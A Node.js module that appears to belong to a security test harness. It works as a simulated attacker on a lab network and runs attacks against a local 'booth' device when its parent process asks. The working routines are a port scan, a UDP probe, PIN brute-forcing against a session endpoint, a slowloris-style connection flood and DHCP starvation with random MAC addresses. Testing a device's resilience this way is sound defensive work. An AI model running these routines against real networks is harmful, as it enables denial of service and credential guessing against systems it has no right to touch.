// An attacker who knows the passphrase, as a process in its own network namespace: runs attacks for its parent and returns
// their results. It has a low priority, because here all share a processor, unlike at a booth.
import dgram from 'node:dgram';
import http from 'node:http';
import net from 'node:net';
import os from 'node:os';
import { randomBytes } from 'node:crypto';
import { pause } from '../../lib/wait.mjs';

os.setPriority(19);
const BOOTH = '10.83.64.1';
const QUESTION = Buffer.from('00000100000100000000000005626f6f74680000010001', 'hex'); // a DNS query for `booth`
const open = new Set();

const connect = (host, port, ms = 4000) => new Promise((resolve) => {
  const socket = net.connect({ host, port });
  const end = (how) => { clearTimeout(timer); socket.removeAllListeners(); socket.on('error', () => {}); resolve([how, socket]); };
  const timer = setTimeout(() => end('silence'), ms);
  socket.on('connect', () => end('open')).on('error', (error) => end(error.code));
});

async function each(items, width, work) {
  const left = [...items];
  await Promise.all(Array.from({ length: width }, async () => {
    for (let item; (item = left.shift()) !== undefined;) await work(item);
  }));
}
const ask = (method, path, headers, body) => new Promise((resolve) => {
  const request = http.request({ host: BOOTH, port: 80, method, path, headers, agent: false }, (answer) => {
    let text = '';
    answer.on('data', (part) => { text += part; }).on('end', () => resolve({ status: answer.statusCode, text }));
  });
  request.on('error', (error) => resolve({ status: 0, text: error.code })).end(body);
});

const attacks = {
  async scan({ host, ports }) {
    const found = {};
    await each(ports, 64, async (port) => {
      const [how, socket] = await connect(host, port);
      (found[how] ??= []).push(port);
      socket.destroy();
    });
    return found;
  },
  async datagrams({ host, ports }) {
    const answered = [];
    await each(ports, 8, (port) => new Promise((resolve) => {
      const socket = dgram.createSocket('udp4');
      const end = () => { socket.close(); resolve(); };
      socket.on('message', () => { answered.push(port); end(); }).on('error', end);
      socket.send(QUESTION, port, host);
      setTimeout(() => { try { end(); } catch { /* closed already */ } }, 1500);
    }));
    return answered;
  },
  ask: ({ method, path, headers, body }) => ask(method, path, headers, body),
  async guess({ times }) {
    const statuses = {};
    for (let i = 0; i < times; i++) {
      const { status } = await ask('POST', '/api/v1/session', { 'Content-Type': 'application/json' }, JSON.stringify({ pin: String(100000 + i), device: 'x' }));
      statuses[status] = (statuses[status] ?? 0) + 1;
    }
    return statuses;
  },
  // Opens as many connections as it can and keeps them; half of them begin a request that never ends.
  async flood({ connections }) {
    const results = {};
    await each(Array.from({ length: connections }, (_, i) => i), 2500, async (i) => {
      const [how, socket] = await connect(BOOTH, 80, 2000);
      results[how] = (results[how] ?? 0) + 1;
      if (how !== 'open') return socket.destroy();
      open.add(socket);
      socket.on('close', () => open.delete(socket));
      if (i % 2) socket.write('GET /api/v1/board HTTP/1.1\r\nHost: booth.internal\r\nX-');
    });
    return results;
  },
  async leave() {
    for (const socket of open) socket.destroy();
    return open.size;
  },
  // Requests an address for many simulated phones, and counts the offers.
  async starve({ times }) {
    const socket = dgram.createSocket({ type: 'udp4', reuseAddr: true });
    await new Promise((resolve) => { socket.bind(68, '0.0.0.0', resolve); });
    socket.setBroadcast(true);
    let offers = 0;
    socket.on('message', () => { offers++; });
    for (let i = 0; i < times; i++) {
      const packet = Buffer.alloc(300);
      packet.set([1, 1, 6, 0]);
      randomBytes(4).copy(packet, 4);
      packet.writeUInt16BE(0x8000, 10); // answer by broadcast
      packet.set([2, ...randomBytes(5)], 28);
      packet.set([0x63, 0x82, 0x53, 0x63, 53, 1, 1, 255], 236);
      await new Promise((resolve) => { socket.send(packet, 67, '255.255.255.255', resolve); });
      if (i % 20 === 0) await pause(20);
    }
    await pause(1000); // for the last answers
    socket.close();
    return offers;
  },
};

process.on('message', async ({ attack, ...args }) => {
  try {
    process.send({ done: await attacks[attack](args) });
  } catch (error) {
    process.send({ error: String(error.stack ?? error) });
  }
});
